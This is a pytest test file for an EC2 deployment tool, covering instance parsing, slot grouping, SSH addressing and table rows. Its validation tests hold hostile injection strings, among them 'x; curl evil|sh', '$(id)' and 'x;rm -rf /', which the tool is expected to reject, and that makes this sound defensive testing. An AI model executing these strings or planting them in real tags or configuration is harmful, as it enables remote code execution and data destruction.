"""EC2 instances as fabship sees them: parsed, grouped by slot, addressed, tabled."""
from datetime import datetime, timedelta, timezone
from types import MappingProxyType

import pytest

from fabship.deploy.ec2config import Ec2Settings
from fabship.deploy.errors import ConfigError
from fabship.deploy.instances import Instance, address_of, age, by_slot, describe_filters, foreign, \
    host_of, parse_instances, table_rows

NOW = datetime(2026, 11, 23, 12, 0, tzinfo=timezone.utc)
WHERE = "fabric.yaml: services.hello.environments.prod.ec2"
SETTINGS = Ec2Settings(2, "t3.small", "ami-0123456789abcdef0", user="ec2-user")


def tags(slot, **extra):
    """The tags a launch gives a slot's instance, with extra ones."""
    pairs = {"Name": f"hello-prod-{slot}", "fabship:service": "hello", "fabship:env": "prod",
             "managed-by": "fabship", "fabship:slot": str(slot), **extra}
    return [{"Key": key, "Value": value} for key, value in pairs.items()]


def raw(instance_id, state, minutes, slot, **fields):
    """One DescribeInstances instance, shaped as boto3 returns it."""
    return {"InstanceId": instance_id, "ImageId": "ami-0123456789abcdef0",
            "InstanceType": "t3.small", "State": {"Code": 16, "Name": state},
            "LaunchTime": NOW - timedelta(minutes=minutes), "Tags": tags(slot),
            "PrivateDnsName": "ip-172-31-5-17.eu-west-1.compute.internal",
            "ClientToken": f"fabship-{slot}-{instance_id}",
            "Placement": {"AvailabilityZone": "eu-west-1a", "Tenancy": "default"}, **fields}


RESERVATIONS = [
    {"ReservationId": "r-0aaa", "OwnerId": "123456789012", "Groups": [], "Instances": [
        raw("i-0000000000000000b", "running", 30, 2, PrivateIpAddress="172.31.5.18",
            PublicIpAddress="54.170.1.2", PublicDnsName=""),
        raw("i-0000000000000000c", "terminated", 300, 1, PrivateIpAddress="",
            PublicDnsName="")]},
    {"ReservationId": "r-0bbb", "OwnerId": "123456789012", "Groups": [], "Instances": [
        raw("i-0000000000000000a", "running", 120, 1, PrivateIpAddress="172.31.5.17",
            PublicIpAddress="54.170.1.1",
            PublicDnsName="ec2-54-170-1-1.eu-west-1.compute.amazonaws.com",
            Tags=tags(1, **{"ssh-address": "deploy@bastion.example.com:2222",
                            "var:weight": "3", "var:zone": "a"}))]},
    {"ReservationId": "r-0ccc", "OwnerId": "123456789012", "Groups": [], "Instances": [
        raw("i-0000000000000000d", "pending", 1, 3),
        raw("i-0000000000000000e", "running", 10, 1, PrivateIpAddress="172.31.5.19")]},
]


def test_parse_instances_orders_by_slot_then_launch():
    """Sorted by slot, then oldest first."""
    found = parse_instances(RESERVATIONS)
    assert [(i.slot, i.instance_id, i.state) for i in found] == [
        (1, "i-0000000000000000c", "terminated"), (1, "i-0000000000000000a", "running"),
        (1, "i-0000000000000000e", "running"), (2, "i-0000000000000000b", "running"),
        (3, "i-0000000000000000d", "pending")]
    first = found[1]
    assert first.launched == NOW - timedelta(minutes=120)
    assert (first.private_ip, first.public_ip) == ("172.31.5.17", "54.170.1.1")
    assert first.public_dns == "ec2-54-170-1-1.eu-west-1.compute.amazonaws.com"
    assert first.tags["ssh-address"] == "deploy@bastion.example.com:2222"
    assert found[0].private_ip is None and found[3].public_dns is None  # "" means none
    assert found[4].private_ip is None and not found[4].tags.get("var:weight")
    assert not parse_instances([]) and not parse_instances(None)


def test_instances_without_a_slot_come_first():
    """A missing or bad slot tag is no slot."""
    odd = [{"Instances": [raw("i-0000000000000000f", "running", 5, 2),
                          {**raw("i-00000000000000010", "running", 5, 1), "Tags": []},
                          {**raw("i-00000000000000011", "running", 5, 1),
                           "Tags": [{"Key": "fabship:slot", "Value": "zero"}]}]}]
    assert [i.slot for i in parse_instances(odd)] == [None, None, 2]


def test_by_slot_holds_only_live_instances():
    """Stopped or terminated instances hold no slot."""
    slots = by_slot(parse_instances(RESERVATIONS))
    assert {slot: [i.instance_id for i in group] for slot, group in slots.items()} == {
        1: ["i-0000000000000000a", "i-0000000000000000e"], 2: ["i-0000000000000000b"],
        3: ["i-0000000000000000d"]}
    assert not by_slot([Instance("i-0000000000000000a", 1, "stopped"),
                        Instance("i-0000000000000000b", 2, "shutting-down"),
                        Instance("i-0000000000000000c", None, "running")])


def test_only_instances_fabship_launched_hold_a_slot():
    """Tags can be copied ("launch more like this") or forged; the ClientToken cannot."""
    copied = {**raw("i-0000000000000000f", "running", 500, 1), "ClientToken": "console-123"}
    untokened = {**raw("i-00000000000000010", "running", 600, 2)}
    del untokened["ClientToken"]
    found = parse_instances([{"Instances": [copied, untokened, *RESERVATIONS[1]["Instances"]]}])
    assert [i.instance_id for i in foreign(found)] == ["i-0000000000000000f",
                                                        "i-00000000000000010"]
    assert {s: [i.instance_id for i in g] for s, g in by_slot(found).items()} == {
        1: ["i-0000000000000000a"]}


def test_describe_filters_match_the_ownership_tags():
    """The filters name the ownership tags."""
    assert describe_filters("hello", "prod") == [
        {"Name": "tag:fabship:service", "Values": ["hello"]},
        {"Name": "tag:fabship:env", "Values": ["prod"]},
        {"Name": "tag:managed-by", "Values": ["fabship"]}]


@pytest.mark.parametrize("how, expected", [
    ("private_ip", "172.31.5.17"), ("public_ip", "54.170.1.1"),
    ("public_dns", "ec2-54-170-1-1.eu-west-1.compute.amazonaws.com"),
    ("tag:ssh-address", "deploy@bastion.example.com:2222"), ("tag:missing", None),
])
def test_address_of(how, expected):
    """Each way of addressing an instance."""
    assert address_of(parse_instances(RESERVATIONS)[1], how) == expected


def test_host_of_a_private_address():
    """The user comes from the ec2 settings."""
    instance = parse_instances(RESERVATIONS)[1]
    host = host_of(instance, SETTINGS, WHERE)
    assert (host.hostname, host.user, host.port) == ("172.31.5.17", "ec2-user", None)
    assert host.instance_id == "i-0000000000000000a"
    assert dict(host.vars) == {"slot": 1, "instance_id": "i-0000000000000000a"}
    fabric_user = Ec2Settings(2, "t3.small", "ami-0123456789abcdef0")
    assert host_of(instance, fabric_user, WHERE).user is None


def test_host_of_a_tag_address_with_tag_vars():
    """A tag address carries user and port."""
    settings = Ec2Settings(2, "t3.small", "ami-0123456789abcdef0", user="ec2-user",
                           address="tag:ssh-address", var_tags="var:")
    host = host_of(parse_instances(RESERVATIONS)[1], settings, WHERE, {"weight": 1, "zone": "b"})
    assert (host.hostname, host.user, host.port) == ("bastion.example.com", "deploy", 2222)
    assert host.address == "deploy@bastion.example.com:2222"
    assert dict(host.vars) == {"weight": 3, "zone": "a", "slot": 1,
                               "instance_id": "i-0000000000000000a"}


@pytest.mark.parametrize("tag, value, why", [
    ("var:bad-name", "x", "'bad-name' is not a variable declared"),
    ("var:undeclared", "x", "'undeclared' is not a variable declared"),
    ("var:zone", "a\n[evil]", "must be letters, digits"),
    ("var:zone", "x; curl evil|sh", "must be letters, digits"),
    ("var:zone", "$(id)", "must be letters, digits"),
])
def test_tag_vars_are_declared_plain_values(tag, value, why):
    """Whoever can tag instances may set only declared variables, to plain values."""
    instance = Instance("i-0000000000000000a", 1, "running", private_ip="10.0.0.5",
                        tags=MappingProxyType({tag: value}))
    settings = Ec2Settings(1, "t3.small", "ami-0123456789abcdef0", var_tags="var:")
    with pytest.raises(ConfigError, match=f"^{WHERE}.var_tags: instance i-0000000000000000a"):
        host_of(instance, settings, WHERE, {"zone": "a"})
    with pytest.raises(ConfigError, match=why.replace("$", "\\$")):
        host_of(instance, settings, WHERE, {"zone": "a"})


@pytest.mark.parametrize("address, why", [
    (None, "has no tag:ssh-address"), ("", "has no tag:ssh-address"),
    ("x;rm -rf /", "bad address"), ("$(id)@10.0.0.5", "bad user"),
    ("10.0.0.5:ssh", "bad port"), ("10.0.0.5:0", "bad port"),
])
def test_host_of_rejects_a_missing_or_malformed_address(address, why):
    """The error names the key path."""
    tag = {} if address is None else {"ssh-address": address}
    instance = Instance("i-0000000000000000a", 4, "running", private_ip="10.0.0.5",
                        tags=MappingProxyType(tag))
    settings = Ec2Settings(4, "t3.small", "ami-0123456789abcdef0", address="tag:ssh-address")
    with pytest.raises(ConfigError) as err:
        host_of(instance, settings, WHERE)
    assert str(err.value).startswith(f"{WHERE}.address: instance i-0000000000000000a")
    assert why in str(err.value)


def test_host_of_without_a_public_ip_says_what_to_do():
    """It suggests another address."""
    instance = Instance("i-0000000000000000a", 2, "running", private_ip="10.0.0.5")
    settings = Ec2Settings(2, "t3.small", "ami-0123456789abcdef0", address="public_ip")
    with pytest.raises(ConfigError, match=r"ec2\.address: instance i-0000000000000000a \(slot "
                                          r"2\) has no public_ip; choose another address"):
        host_of(instance, settings, WHERE)


@pytest.mark.parametrize("delta, text", [
    (timedelta(0), "0s"), (timedelta(seconds=42), "42s"), (timedelta(seconds=59), "59s"),
    (timedelta(seconds=60), "1m"), (timedelta(minutes=7, seconds=59), "7m"),
    (timedelta(hours=1), "1h"), (timedelta(hours=23, minutes=59), "23h"),
    (timedelta(days=2, hours=5), "2d"), (timedelta(seconds=-30), "0s"),
])
def test_age(delta, text):
    """Short ages, rounded down."""
    assert age(NOW - delta, NOW) == text


def test_age_of_nothing_and_of_now():
    """No launch time, and the default clock."""
    assert age(None, NOW) == "-"
    assert age(datetime.now(timezone.utc) - timedelta(hours=3)) == "3h"


def test_table_rows():
    """One row per instance, with '-' for what is missing."""
    rows = table_rows(parse_instances(RESERVATIONS), "public_ip", NOW)
    assert rows == [("1", "i-0000000000000000c", "terminated", "-", "5h"),
                    ("1", "i-0000000000000000a", "running", "54.170.1.1", "2h"),
                    ("1", "i-0000000000000000e", "running", "-", "10m"),
                    ("2", "i-0000000000000000b", "running", "54.170.1.2", "30m"),
                    ("3", "i-0000000000000000d", "pending", "-", "1m")]
    assert table_rows([Instance("i-0000000000000000f", None, "running")], "private_ip",
                      NOW) == [("?", "i-0000000000000000f", "running", "-", "-")]
